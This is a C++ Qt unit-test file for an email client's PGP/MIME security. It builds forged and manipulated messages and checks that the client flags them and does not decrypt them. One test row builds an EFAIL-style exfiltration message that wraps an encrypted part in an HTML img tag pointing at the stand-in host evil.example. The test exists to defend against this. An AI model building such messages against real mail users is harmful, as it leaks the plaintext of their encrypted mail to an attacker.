// SPDX-License-Identifier: GPL-3.0-or-later
#include "tests/crypto/crypto_fixture.h"

#include <QCryptographicHash>

using namespace sobre;
using namespace sobre::tests;

/// Letters that claim more than they can show.
class TestForgedLetters : public CryptoTest {
    Q_OBJECT
private Q_SLOTS:
    void init() { begin(); }
    void cleanup() { end(); }
    void whatTheProtectedHeaderSaysIsWhatCounts();
    void aLetterSignedForAnotherIsNoLetterForUs();
    void whatNobodySignedNamesNoReader();
    void aCopyInSecretIsNotForOthers();
    void anyChangedOctetOfASignedPartIsSeen();
    void aBlankSignatureIsABrokenOneAndNobodyIsAsked();
    void anEnvelopeThatIsNotTheWholeIsNeverOpened_data();
    void anEnvelopeThatIsNotTheWholeIsNeverOpened();
    void aFooterUnderASignedLetterIsNotSigned();
    void onlyPartsThatWereCheckedAreGood();
    void anInnerSubjectCountsOnlyInTheProtectedRoot();
    void attackE46AKeyThatThePersonFoundToDifferFramesNothing();
    void attackD34ASignatureForAnothersKeyIsNotForUs();
};

void TestForgedLetters::aBlankSignatureIsABrokenOneAndNobodyIsAsked()
{
    const QByteArray octets = octetsOf(sealed(draftTo({Dos}), true, false).value(0));
    const qsizetype begin = octets.indexOf("-----BEGIN PGP SIGNATURE");
    const QByteArray after = "-----END PGP SIGNATURE-----";
    const qsizetype end = octets.indexOf(after) + after.size();
    QVERIFY(begin > 0 && end > begin);
    for (const QByteArray &blank : {QByteArray(), QByteArray(" \r\n\t\r\n")}) {
        const QByteArray forged = octets.first(begin) + blank + octets.sliced(end);
        m_fake->asked.clear();
        QCOMPARE(wordFor(opened(forged).judgement.verdict), "bad-signature");
        for (const plugin::CryptoRequest &request : std::as_const(m_fake->asked))
            QVERIFY(request.operation() != plugin::CryptoRequest::Operation::Verify);
        // the same within an envelope that has a good signature of its own
        const QByteArray inside = forged.sliced(forged.indexOf("Content-Type: multipart/signed"));
        QCOMPARE(wordFor(opened(envelopeAround(inside, u'1')).judgement.verdict), "bad-signature");
        QCOMPARE(wordFor(opened(envelopeAround(inside)).judgement.verdict), "bad-signature");
    }
}

void TestForgedLetters::whatTheProtectedHeaderSaysIsWhatCounts()
{
    const auto date = [](const QDateTime &when) {
        return "Date: " + when.toUTC().toString(Qt::RFC2822Date).toLatin1() + "\r\n";
    };
    const auto verdictWith = [this](const QByteArray &fields) {
        return wordFor(opened(envelopeAround(fields + "Content-Type: text/plain; hp=\"cipher\"\r\n\r\nx\r\n", u'1')).judgement.verdict);
    };
    const QDateTime now = QDateTime::currentDateTimeUtc();
    const QByteArray uno = "From: uno@one.example\r\n";
    QCOMPARE(verdictWith(uno + date(now)), "sealed-and-signed");
    QCOMPARE(verdictWith("From: uno@one.example, tres@three.example\r\n"), "sender-unclear");
    QCOMPARE(verdictWith(uno + uno), "sender-unclear");
    QCOMPARE(verdictWith("From: \r\n"), "sender-unclear");
    QCOMPARE(verdictWith(uno + date(now.addDays(-3))), "signed-at-other-time"); // the outside says today
    QCOMPARE(verdictWith(uno + "Date: some day\r\n"), "signed-at-other-time");
    const QDateTime earlier = now.addSecs(-1800);
    const OpenedLetter letter = opened(envelopeAround(uno + date(earlier) + "Content-Type: text/plain; hp=\"cipher\"\r\n\r\nx\r\n", u'1'));
    QVERIFY(letter.judgement.isGood());
    QCOMPARE(letter.message.date.toSecsSinceEpoch(), earlier.toSecsSinceEpoch());
    // And an outside without a Date, or with two, vouches for no time.
    const QByteArray line = date(now);
    const QByteArray plain = envelopeAround("Content-Type: text/plain\r\n\r\nx\r\n", u'1');
    const qsizetype its = plain.indexOf("Date: ");
    QByteArray none = plain;
    none.remove(its, plain.indexOf("\r\n", its) + 2 - its);
    QCOMPARE(wordFor(opened(plain).judgement.verdict), "sealed-and-signed");
    QCOMPARE(wordFor(opened(none).judgement.verdict), "signed-at-other-time");
    QCOMPARE(wordFor(opened(line + plain).judgement.verdict), "signed-at-other-time");
}

// Uno signed in the open, for Tres. Whoever got it seals it for Dos (here by Uno's key, which can be opened).
void TestForgedLetters::aLetterSignedForAnotherIsNoLetterForUs()
{
    const QByteArray octets = octetsOf(sealed(draftTo({Tres}), true, false).value(0));
    QCOMPARE(wordFor(opened(octets, false, {Dos}).judgement.verdict), "signed-checked"); // as Uno sent it
    const QByteArray entity = octets.sliced(octets.indexOf("Content-Type: multipart/signed"));
    const OpenedLetter passedOn = opened(envelopeAround(entity), false, {Dos});
    QCOMPARE(wordFor(passedOn.judgement.verdict), "signed-for-others");
    QVERIFY(!passedOn.judgement.isGood());
    QCOMPARE(passedOn.judgement.signedFor, QStringList {Tres});
    QVERIFY(passedOn.message.text.contains(u"saffron"_s)); // it is shown, with a warning
    QCOMPARE(wordFor(opened(envelopeAround(entity), false, {Tres}).judgement.verdict), "sealed-and-signed");
    // The same in the open: another To is enough.
    QByteArray readdressed = octets;
    const qsizetype to = readdressed.indexOf("To: " + Tres.toLatin1());
    readdressed.replace(to, 4 + Tres.size(), "To: " + Dos.toLatin1());
    QCOMPARE(wordFor(opened(readdressed, false, {Dos}).judgement.verdict), "signed-for-others");
}

// A header between the envelope and the signed part is by whoever sealed it, whatever it says of itself.
void TestForgedLetters::whatNobodySignedNamesNoReader()
{
    QByteArray octets = octetsOf(sealed(draftTo({Tres}), true, false).value(0));
    QByteArray entity = octets.sliced(octets.indexOf("Content-Type: multipart/signed"));
    const QByteArray forged = "From: uno@one.example\r\nTo: dos@two.example\r\n"
        + entity.replace(entity.indexOf("multipart/signed;"), 17, "multipart/signed; hp=\"cipher\";");
    QCOMPARE(wordFor(opened(envelopeAround(forged), false, {Dos}).judgement.verdict), "signed-for-others");

    const QByteArray text = "Content-Type: text/plain\r\n\r\nYes, I agree."; // a signature that protects no header
    const QByteArray sum = QCryptographicHash::hash(text, QCryptographicHash::Sha256).toHex();
    const QByteArray bare = "Content-Type: multipart/signed; hp=\"cipher\"; protocol=\"application/pgp-signature\"; boundary=B\r\n\r\n--B\r\n"
        + text + "\r\n--B\r\nContent-Type: application/pgp-signature\r\n\r\n-----BEGIN PGP SIGNATURE-----\r\n\r\n"
        + QByteArray(40, '1') + '.' + sum + "\r\n-----END PGP SIGNATURE-----\r\n--B--\r\n";
    const Judgement judged = opened(envelopeAround("To: dos@two.example\r\n" + bare), false, {Dos}).judgement;
    QCOMPARE(wordFor(judged.verdict), "sealed-and-signed");
    QVERIFY(judged.signedFor.isEmpty()); // and the details say so
}

void TestForgedLetters::aCopyInSecretIsNotForOthers()
{
    const SealedLetters copies = sealed(draftTo({Dos}, {Secreto}));
    QCOMPARE(copies.size(), 2);
    const OpenedLetter letter = opened(octetsOf(copies[1]), false, {Secreto});
    QCOMPARE(wordFor(letter.judgement.verdict), "sealed-and-signed");
    QCOMPARE(letter.judgement.signedFor, QStringList {Dos}); // To lies in what is signed
    // Where all are secret, each copy names nobody or its own reader.
    for (const ReadyLetter &copy : sealed(draftTo({}, {Secreto, Tres})))
        QCOMPARE(wordFor(opened(octetsOf(copy), false, {Secreto}).judgement.verdict), "sealed-and-signed");
}

void TestForgedLetters::anyChangedOctetOfASignedPartIsSeen()
{
    mime::Draft draft = draftTo({Dos});
    draft.attachments.clear();
    const QByteArray octets = octetsOf(sealed(draft, true, false).value(0));
    const qsizetype first = octets.indexOf("\r\n--=_") + 2;
    const qsizetype begin = octets.indexOf("\r\n", first) + 2;
    const qsizetype end = octets.indexOf("\r\n--=_", begin);
    QVERIFY(end > begin);
    int seen = 0;
    for (qsizetype at = begin; at < end; at += 7) {
        QByteArray changed = octets;
        changed[at] = changed[at] == 'a' ? 'b' : 'a';
        const Judgement judged = opened(changed).judgement;
        QVERIFY2(!judged.isGood(), QByteArray::number(at));
        seen += judged.verdict == Verdict::BadSignature;
    }
    QVERIFY(seen > 30);
}

void TestForgedLetters::anEnvelopeThatIsNotTheWholeIsNeverOpened_data()
{
    QTest::addColumn<QByteArray>("shape");
    QTest::newRow("between two pieces of HTML") << QByteArray("efail");
    QTest::newRow("beside a text") << QByteArray("beside");
    QTest::newRow("in an attached letter") << QByteArray("attached");
    QTest::newRow("with a third part") << QByteArray("third");
    QTest::newRow("under a signature") << QByteArray("signed");
}

void TestForgedLetters::anEnvelopeThatIsNotTheWholeIsNeverOpened()
{
    QFETCH(const QByteArray, shape);
    const QByteArray letter = octetsOf(sealed(draftTo({Dos})).value(0));
    const qsizetype body = letter.indexOf("Content-Type: multipart/encrypted");
    const QByteArray entity = letter.sliced(body);
    const QByteArray head = "From: uno@one.example\r\nTo: dos@two.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n";
    const auto part = [](const QByteArray &octets) { return "--B\r\n" + octets + "\r\n"; };
    const QByteArray mixed = head + "Content-Type: multipart/mixed; boundary=B\r\n\r\n";
    QByteArray octets;
    if (shape == "efail") {
        octets = mixed + part("Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/") + part(entity)
            + part("Content-Type: text/html\r\n\r\n\">") + "--B--\r\n";
    } else if (shape == "beside") {
        octets = mixed + part("Content-Type: text/plain\r\n\r\nReply to this") + part(entity) + "--B--\r\n";
    } else if (shape == "attached") {
        octets = mixed + part("Content-Type: message/rfc822\r\n\r\n" + letter) + "--B--\r\n";
    } else if (shape == "third") {
        octets = letter;
        const qsizetype end = octets.lastIndexOf("\r\n--");
        const QByteArray boundary = octets.sliced(end + 4).trimmed().chopped(2);
        octets = octets.first(end) + "\r\n--" + boundary + "\r\nContent-Type: text/html\r\n\r\n<p>hello\r\n--" + boundary + "--\r\n";
    } else {
        octets = head + "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=B\r\n\r\n"
            + part(entity) + part("Content-Type: application/pgp-signature\r\n\r\nx") + "--B--\r\n";
    }
    m_fake->asked.clear();
    const OpenedLetter out = opened(octets, true);
    QCOMPARE(wordFor(out.judgement.verdict), "only-part");
    QVERIFY(!out.judgement.isGood());
    QVERIFY(out.octets.isEmpty());
    QVERIFY(!out.message.text.contains(u"saffron"_s));
    for (const plugin::CryptoRequest &request : std::as_const(m_fake->asked))
        QVERIFY(request.operation() != plugin::CryptoRequest::Operation::Decrypt);
}

void TestForgedLetters::aFooterUnderASignedLetterIsNotSigned()
{
    const QByteArray letter = octetsOf(sealed(draftTo({Dos}), true, false).value(0));
    const qsizetype body = letter.indexOf("Content-Type: multipart/signed");
    const QByteArray list = letter.first(body) + "Content-Type: multipart/mixed; boundary=LIST\r\n\r\n--LIST\r\n"
        + letter.sliced(body) + "\r\n--LIST\r\nContent-Type: text/plain\r\n\r\nThe list's footer\r\n--LIST--\r\n";
    const OpenedLetter out = opened(list);
    QCOMPARE(wordFor(out.judgement.verdict), "only-part");
    QCOMPARE(out.judgement.signatures.size(), 1);
    QVERIFY(out.judgement.signatures[0].word == SignatureFinding::Word::Good);
    QCOMPARE(out.protection.parts, QList<mime::PartPath> {{0}});
}

void TestForgedLetters::onlyPartsThatWereCheckedAreGood()
{
    const QByteArray letter = octetsOf(sealed(draftTo({Dos}), true, false).value(0));
    const qsizetype body = letter.indexOf("Content-Type: multipart/signed");
    const QByteArray good = letter.sliced(body);
    const QByteArray three = "Content-Type: multipart/signed; boundary=C; protocol=\"application/pgp-signature\"\r\n\r\n"
                             "--C\r\nContent-Type: text/plain\r\n\r\nforged\r\n--C\r\nContent-Type: text/plain\r\n\r\nx\r\n"
                             "--C\r\nContent-Type: application/pgp-signature\r\n\r\nx\r\n--C--\r\n";
    QByteArray altered = good;
    altered.replace("saffron", "Saffron");
    const auto goodOf = [&](const QByteArrayList &parts) {
        QList<mime::PartPath> paths;
        for (const GoodPart &one : opened(letter.first(body) + "Content-Type: multipart/mixed; boundary=LIST\r\n\r\n--LIST\r\n"
                                          + parts.join("\r\n--LIST\r\n") + "\r\n--LIST--\r\n").goodParts)
            paths.append(one.part);
        return paths;
    };
    QCOMPARE(goodOf({good, three}), QList<mime::PartPath> {{0}});
    QCOMPARE(goodOf({altered, good}), QList<mime::PartPath> {{1}});
    QCOMPARE(goodOf({good, good, good, good, good}), (QList<mime::PartPath> {{0}, {1}, {2}, {3}})); // the fifth is not asked about
}

void TestForgedLetters::anInnerSubjectCountsOnlyInTheProtectedRoot()
{
    const auto sealedBy = [this](const QByteArray &inside) {
        const auto write = [inside](QIODevice &out) -> Result<> {
            out.write(inside);
            return {};
        };
        const auto device = valueOf(sealDraft(write, {{u"Uno"_s, Uno}, {}, {}}, QString(40, u'1'), m_directory.path(), *m_engine));
        (*device)->seek(0);
        return opened((*device)->readAll());
    };
    const QByteArray root = "Subject: true\r\nContent-Type: text/plain; protected-headers=\"v1\"\r\n\r\nx\r\n";
    QCOMPARE(sealedBy(root).message.subject, u"true"_s);
    QCOMPARE(sealedBy("Subject: not protected\r\nContent-Type: text/plain\r\n\r\nx\r\n").message.subject, u"..."_s);
    QCOMPARE(sealedBy("Content-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\n" + root + "--B--\r\n").message.subject, u"..."_s);
}

void TestForgedLetters::attackE46AKeyThatThePersonFoundToDifferFramesNothing()
{
    const QByteArray letter = octetsOf(sealed(draftTo({Dos}), true, false).value(0));
    const qsizetype body = letter.indexOf("Content-Type: multipart/signed");
    const QByteArray list = letter.first(body) + "Content-Type: multipart/mixed; boundary=LIST\r\n\r\n--LIST\r\n"
        + letter.sliced(body) + "\r\n--LIST\r\nContent-Type: text/plain\r\n\r\nThe list's footer\r\n--LIST--\r\n";
    QCOMPARE(opened(list).goodParts.size(), 1); // control
    m_keys->setPreferences([](const QString &) { return KeyPreference {.chosen = {}, .checked = {}, .bad = {QString(40, u'1')}}; });
    QCOMPARE(opened(list).goodParts.size(), 0);
    QCOMPARE(wordFor(opened(letter).judgement.verdict), "signed-unknown-key");
}

void TestForgedLetters::attackD34ASignatureForAnothersKeyIsNotForUs()
{
    mime::Draft draft = draftTo({Dos});
    const QByteArray octets = octetsOf(sealed(draft).value(0));
    m_fake->intended = {QString(40, u'1'), QString(40, u'2')}; // Uno's own is here
    QCOMPARE(wordFor(opened(octets).judgement.verdict), "sealed-and-signed");
    m_fake->intended = {QString(40, u'3')};
    const OpenedLetter passedOn = opened(octets);
    QCOMPARE(wordFor(passedOn.judgement.verdict), "signed-for-others");
    QVERIFY(!passedOn.judgement.isGood());
}

QTEST_GUILESS_MAIN(TestForgedLetters)
#include "tst_forged_letters.moc"
